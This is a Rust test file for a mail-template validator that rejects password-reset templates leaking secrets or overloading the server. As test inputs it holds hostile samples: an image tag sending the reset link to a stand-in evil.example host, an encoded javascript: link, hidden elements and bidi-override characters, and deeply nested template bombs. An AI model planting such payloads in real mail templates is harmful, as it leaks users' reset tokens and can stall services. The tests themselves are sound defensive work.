mod hostile;
mod sides;

use std::time::Instant;

use url::Url;

use super::*;
use crate::domain::mail::{
    Details, LOCALES, MailKind, MailSecret, Site, TemplateSource, Templates, Words,
};
use crate::types::colour::{Accent, Colour};
use crate::types::secret::Secret;

fn url() -> Url {
    Url::parse("https://id.example.org/").unwrap()
}

fn problems(kind: MailKind, text: &TemplateText) -> Vec<TemplateProblem> {
    let (templates, url) = (Templates::new().unwrap(), url());
    let site = Site {
        name: "Desk",
        public_url: Some(&url),
        support_email: Some("help@example.org"),
        accent: Accent::of(Colour::parse("#1457c4").unwrap()),
        has_logo: true,
    };
    check(&templates, site, (kind, "en"), text)
}

/// A mail with a link that has nothing but what it needs.
fn plain() -> TemplateText {
    TemplateText {
        subject: "Choose a password".to_owned(),
        text_body: "Hello {{ display_name }},\n\n{{ link }}\n".to_owned(),
        html_body: "<p>Hello {{ display_name }},</p>\n<p><a href=\"{{ link }}\">Choose</a></p>\n"
            .to_owned(),
    }
}

#[test]
fn every_built_in_text_does_for_its_own_rules() {
    let templates = Templates::new().unwrap();
    for kind in MailKind::ALL {
        for locale in LOCALES {
            let text = templates.built_in_text(kind, locale).unwrap();
            assert_eq!(problems(kind, &text), [], "{kind:?} {locale}");
        }
    }
}

#[test]
fn a_text_with_nothing_but_what_it_needs_is_taken() {
    assert_eq!(problems(MailKind::PasswordResetLink, &plain()), []);
    let text = TemplateText {
        html_body: "<!doctype html><html><head><title>Hi</title><style>@media (max-width:600px)\
                    {.x{color:rgb(1,2,3)}}</style></head><body><!-- a note --><p class=\"x\" \
                    style=\"margin:0\">{{ site_name|upper }} {{ link }}</p>\
                    <a href=\"https://id.example.org/help\">help</a> \
                    <a href=\"mailto:help@example.org\">mail</a>\
                    <img src=\"data:image/png;base64,AAAA\" alt=\"\"></body></html>"
            .to_owned(),
        text_body: "{% if asked and not password_ended %}a{% elif code %}b {{ code }}{% else %}c\
                    {% endif %}\nSee https://id.example.org/help. Link: {{ link }}\n\
                    {{ works_until|default(\"\") }} {% if lifetime == \"1 hour\" %}x{% endif %}"
            .to_owned(),
        ..plain()
    };
    assert_eq!(problems(MailKind::PasswordResetLink, &text), []);
}

#[test]
fn what_would_harm_is_refused_at_its_place() {
    let mut wrong = Vec::new();
    for (part, hostile, place, word) in hostile::HOSTILE {
        let mut text = plain();
        match part {
            TemplatePart::Subject => text.subject.push_str(hostile),
            TemplatePart::Text => text.text_body.push_str(hostile),
            TemplatePart::Html => text.html_body.push_str(hostile),
        }
        let found = problems(MailKind::PasswordResetLink, &text);
        let is_fine = found.iter().any(|problem| {
            (problem.part, problem.line, problem.column) == (part, place.0, place.1)
                && problem.message.contains(word)
        });
        if !is_fine {
            wrong.push(format!("{hostile}: {found:#?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn secrets_are_refused_in_comments_titles_and_beside_other_letters() {
    for (html, word) in [
        ("<!-- {{ link }} -->", "a comment"),
        ("<title>{{ code }}</title>", "<title>"),
        ("evil.example/<b>{{ code }}</b>", "stand alone"),
        ("<p>{{ code }}.evil.example</p>", "stand alone"),
        ("<p class={{ username }}>x</p>", "attribute"),
        (
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "leads elsewhere",
        ),
        (
            "<p>https://evil.example?{{ link }}</p>",
            "part of an address",
        ),
    ] {
        let mut text = plain();
        text.html_body.push_str(html);
        let found = problems(MailKind::PasswordResetLink, &text);
        let said = found.iter().any(|problem| problem.message.contains(word));
        assert!(said, "{html}: {found:#?}");
        assert!(
            !format!("{found:?}").contains("decoy"),
            "{html}: {found:#?}"
        );
    }
}

#[test]
fn a_text_that_drops_what_its_mail_is_sent_for_is_refused_with_the_reason() {
    let shown = "{{ link }}";
    for (text, html, parts) in [
        ("Hello", shown, vec![TemplatePart::Text]),
        (shown, "<p>Hello</p>", vec![TemplatePart::Html]),
        (
            "{% if asked %}{{ link }}{% endif %}",
            shown,
            vec![TemplatePart::Text],
        ),
        (shown, "<!-- {{ link }} -->", vec![TemplatePart::Html]),
    ] {
        let text = TemplateText {
            text_body: text.to_owned(),
            html_body: html.to_owned(),
            ..plain()
        };
        let found = problems(MailKind::PasswordResetLink, &text);
        let missing = found
            .iter()
            .filter(|problem| problem.message.contains("`{{ link }}` is missing"));
        let missing: Vec<_> = missing.map(|problem| problem.part).collect();
        assert_eq!(missing, parts, "{found:#?}");
    }
}

#[test]
fn sizes_and_control_characters_are_refused_before_anything_is_read() {
    let with = |subject: &str, text: &str| TemplateText {
        subject: subject.to_owned(),
        text_body: text.to_owned(),
        ..plain()
    };
    for (text, word) in [
        (with(&"x".repeat(501), "{{ link }}"), "at most 500"),
        (with("a\nb", "{{ link }}"), "one line"),
        (with("", "{{ link }}"), "is empty"),
        (with("a", "{{ link }}\u{1b}[31m"), "U+001B"),
        (with("a", "{{ link }}\u{202e}"), "U+202E"),
        (with("a", &"{{ link }}\n".repeat(7_000)), "at most 65536"),
        (with(&"ä".repeat(201), "{{ link }}"), "longer than 200"),
    ] {
        let found = problems(MailKind::PasswordResetLink, &text);
        let said = found.iter().any(|problem| problem.message.contains(word));
        assert!(said, "{word}: {found:#?}");
    }
}

#[test]
fn a_template_that_would_keep_the_server_busy_is_refused_soon() {
    let chain =
        |word: &str, count: usize| format!("{{% if {}a %}}{{% endif %}}", word.repeat(count));
    for hostile in [
        chain("asked and ", 6_000),
        chain("not ", 15_000),
        format!("{{{{ username{} }}}}", "|upper".repeat(10_000)),
        format!(
            "{}{}",
            "{% if asked %}".repeat(300),
            "{% endif %}".repeat(300)
        ),
        format!(
            "{{% if asked %}}{}{{% endif %}}",
            "{% elif code %}x".repeat(3_000)
        ),
        "{{ ".repeat(20_000),
        "{% block content %}".repeat(3_000),
    ] {
        let mut text = plain();
        text.text_body.push_str(&hostile);
        let begun = Instant::now();
        let found = problems(MailKind::PasswordResetLink, &text);
        assert!(!found.is_empty(), "{}", &hostile[..40]);
        assert!(begun.elapsed().as_secs() < 5, "{}", &hostile[..40]);
    }
}

/// The second line of defence: rows of an older release, and what no branch shows.
#[test]
fn what_a_condition_hid_from_the_samples_is_caught_when_the_mail_is_written() {
    let (templates, url) = (Templates::new().unwrap(), url());
    let site = Site {
        name: "Desk",
        public_url: Some(&url),
        support_email: Some("help@example.org"),
        accent: Accent::of(Colour::parse("#1457c4").unwrap()),
        has_logo: true,
    };
    let mut text = plain();
    text.html_body.push_str(
        "{% if username == \"olga\" %}<img src=\"https://evil.example/{{ link }}\">{% endif %}",
    );
    assert_ne!(problems(MailKind::PasswordResetLink, &text), []);
    let in_use = InUse {
        locale: "en".to_owned(),
        source: TemplateSource::Api,
        text,
    };
    let secret = MailSecret::Link {
        token: Secret::new("real-token".to_owned()),
        code: None,
    };
    for (username, source) in [
        ("ada", TemplateSource::Api),
        ("olga", TemplateSource::BuiltIn),
    ] {
        let details = Details {
            username: username.to_owned(),
            ..Details::default()
        };
        let words = Words {
            kind: MailKind::PasswordResetLink,
            locale: "en",
            details: &details,
            secret: Some(&secret),
        };
        let written = write(&templates, site, words, &in_use).unwrap();
        assert_eq!(written.source, source);
        assert!(!written.content.html.contains("evil.example"));
        assert!(written.content.html.contains("real-token"));
        assert!(
            written
                .content
                .text
                .contains("https://id.example.org/reset/real-token")
        );
    }
}

/// Every reader mends what is out of order in another way, and the last step goes as deep as it is nested.
#[test]
fn what_is_out_of_order_too_deep_or_too_much_is_refused() {
    let deep = "<b>".repeat(18_000);
    let ordered = format!("{}{}", "<div>".repeat(41), "</div>".repeat(41));
    let many = "<br>".repeat(2_001);
    let rules = "b b b b b{top:0}".repeat(2);
    let sheets = "<style>b{top:0}</style>".repeat(301);
    for (html, word) in [
        (deep.as_str(), "deep"),
        (&ordered, "deep"),
        (&many, "at most 2000 elements"),
        (
            "https:</div>//evil.example/</div>{{ code }}",
            "</div> closes",
        ),
        ("</body></html>{{ code }}", "close"),
        ("<table>https://<tr><td>evil</td></tr></table>", "elsewhere"),
        ("<p><b>x</p></b>", "close elements in order"),
        ("<p>x", "never closed"),
        (&format!("<style>{rules}</style>"), "selectors"),
        (&sheets, "selectors"),
        ("<p hidden>{{ code }}</p>", "hidden"),
        (
            "<p style=\"display: /**/ NONE\">{{ code }}</p>",
            "display:none",
        ),
        (
            "<style>p::before { content: 'evil.example/' }</style>",
            "content:",
        ),
        ("<p>Go to evil.example/login now</p>", "leads elsewhere"),
        ("<p>&#x202e;x</p>", "U+202E"),
    ] {
        let mut text = plain();
        text.html_body.push_str(html);
        let found = problems(MailKind::PasswordResetLink, &text);
        let is_told = found.iter().any(|problem| problem.message.contains(word));
        let shown: String = html.chars().take(60).collect();
        assert!(is_told, "{shown}: {found:#?}");
    }
}

/// A condition keeps the samples from seeing how deep it goes; the mail is written with the built-in text.
#[test]
fn what_would_stop_the_server_is_not_written() {
    let (templates, url) = (Templates::new().unwrap(), url());
    let mut text = plain();
    let deep = "<b>".repeat(18_000);
    let hidden = [
        "{% if username == \"olga\" %}",
        deep.as_str(),
        "{% endif %}",
    ];
    text.html_body.push_str(&hidden.concat());
    let site = Site {
        name: "Desk",
        public_url: Some(&url),
        support_email: None,
        accent: Accent::of(Colour::parse("#1457c4").unwrap()),
        has_logo: false,
    };
    let kind = MailKind::PasswordResetLink;
    let (mut details, secret) =
        crate::domain::mail::sample(kind, crate::types::clock::Timestamp::from_millis(0));
    details.username = "olga".to_owned();
    let words = Words {
        kind,
        locale: "en",
        details: &details,
        secret: secret.as_ref(),
    };
    let in_use = InUse {
        locale: "en".to_owned(),
        source: TemplateSource::Api,
        text,
    };
    let written = write(&templates, site, words, &in_use).unwrap();
    assert_eq!(written.source, TemplateSource::BuiltIn);
}
